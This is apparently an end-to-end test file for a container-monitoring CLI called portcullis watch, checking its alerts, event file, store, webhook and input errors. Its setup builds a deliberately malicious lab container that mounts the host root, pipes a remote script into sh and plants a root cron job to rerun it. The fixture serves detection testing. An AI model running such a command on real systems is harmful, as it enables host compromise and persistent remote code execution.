// `portcullis watch` end to end: the built CLI against the lab engine, JSON lines on stdout, the events file,
// a real SQLite store, a webhook receiver, exit codes, and clear errors on bad input.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../../src/core/store/index.js';
import { docker, labFromEnv } from '../../lab/index.js';

const lab = labFromEnv();
const NAME = 'pcl-watch-cli-dropper';
const CLI = join(process.cwd(), 'dist/cli/main.js');

function run(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile('node', [CLI, ...args], { env: { ...process.env, DOCKER_HOST: lab.dockerHost }, timeout: 60_000 }, (err, stdout, stderr) => {
      resolve({ code: err ? (typeof err.code === 'number' ? err.code : 1) : 0, stdout, stderr });
    });
  });
}

beforeAll(() => {
  docker(lab, ['rm', '-f', NAME]);
  docker(lab, ['create', '--name', NAME, '--network', 'none', '-v', '/:/mnt', 'alpine', 'chroot', '/mnt', 'sh', '-c',
    'wget -qO- http://203.0.113.9/k.sh | sh; echo "* * * * * root wget -qO- http://203.0.113.9/k.sh|sh" > /etc/cron.d/k']);
});
afterAll(() => { docker(lab, ['rm', '-f', NAME]); });

describe('portcullis watch (CLI)', () => {
  it('--once reviews, prints JSON lines, writes the events file and the store, posts the webhook, exits 1', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pcl-watch-cli-'));
    const posted: unknown[] = [];
    const hook = createServer((req, res) => {
      let b = '';
      req.on('data', (c) => { b += c; });
      req.on('end', () => { posted.push(JSON.parse(b)); res.writeHead(204).end(); });
    });
    await new Promise<void>((r) => hook.listen(0, '127.0.0.1', () => r()));
    const port = (hook.address() as { port: number }).port;
    try {
      const db = join(dir, 'store.db');
      const r = await run(['watch', '--once', '--format', 'json', '--min-severity', 'high', '--events', join(dir, 'ev.jsonl'),
        '--store', db, '--webhook', `http://127.0.0.1:${port}/hook`]);
      expect(r.code).toBe(1);
      const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
      const mine = lines.filter((l) => l.eventid === 'watch.alert.raised' && (l.container as { name: string }).name === NAME);
      expect(mine.length).toBeGreaterThan(1);
      expect(mine.every((l) => l.severity === 'high' || l.severity === 'critical')).toBe(true);
      expect(lines.at(-1)?.eventid).toBe('watch.run.finished');
      const file = readFileSync(join(dir, 'ev.jsonl'), 'utf8').trim().split('\n');
      expect(file.length).toBe(lines.length);
      const store = await openStore(db);
      try {
        const stored = await store.queryEvents({ eventid: 'watch.alert.raised' });
        expect(stored.length).toBe(lines.filter((l) => l.eventid === 'watch.alert.raised').length);
      } finally { await store.close(); }
      expect(posted.filter((p) => (p as { eventid: string }).eventid === 'watch.alert.raised').length)
        .toBe(lines.filter((l) => l.eventid === 'watch.alert.raised').length);
    } finally { hook.close(); }
  });

  it('refuses bad input with the fix and exit code 2', async () => {
    const bad = await run(['watch', '--once', '--respond', 'critical=nuke', '--no-store']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/ACTION one of alert, pause, stop, kill/);
    const sev = await run(['watch', '--once', '--min-severity', 'urgent', '--no-store']);
    expect(sev.code).toBe(2);
    expect(sev.stderr).toMatch(/--min-severity must be one of/);
    for (const [flag, value, msg] of [['--cpu-cores', 'lots', /--cpu-cores must be a number of cores > 0/], ['--cpu-cores', '0', /--cpu-cores must be/],
      ['--cpu-samples', '1', /--cpu-samples must be a whole number >= 2, or 0/], ['--cpu-samples', '2.5', /--cpu-samples must be/]] as const) {
      const r = await run(['watch', '--once', '--no-store', flag, value]);
      expect(r.code, `${flag} ${value}`).toBe(2);
      expect(r.stderr).toMatch(msg);
    }
    const down = await run(['watch', '--once', '--no-store', '-H', 'unix:///tmp/pcl-no-such-engine.sock']);
    expect(down.code).toBe(2);
    expect(down.stderr).toMatch(/cannot reach the Docker engine/);
  });
});
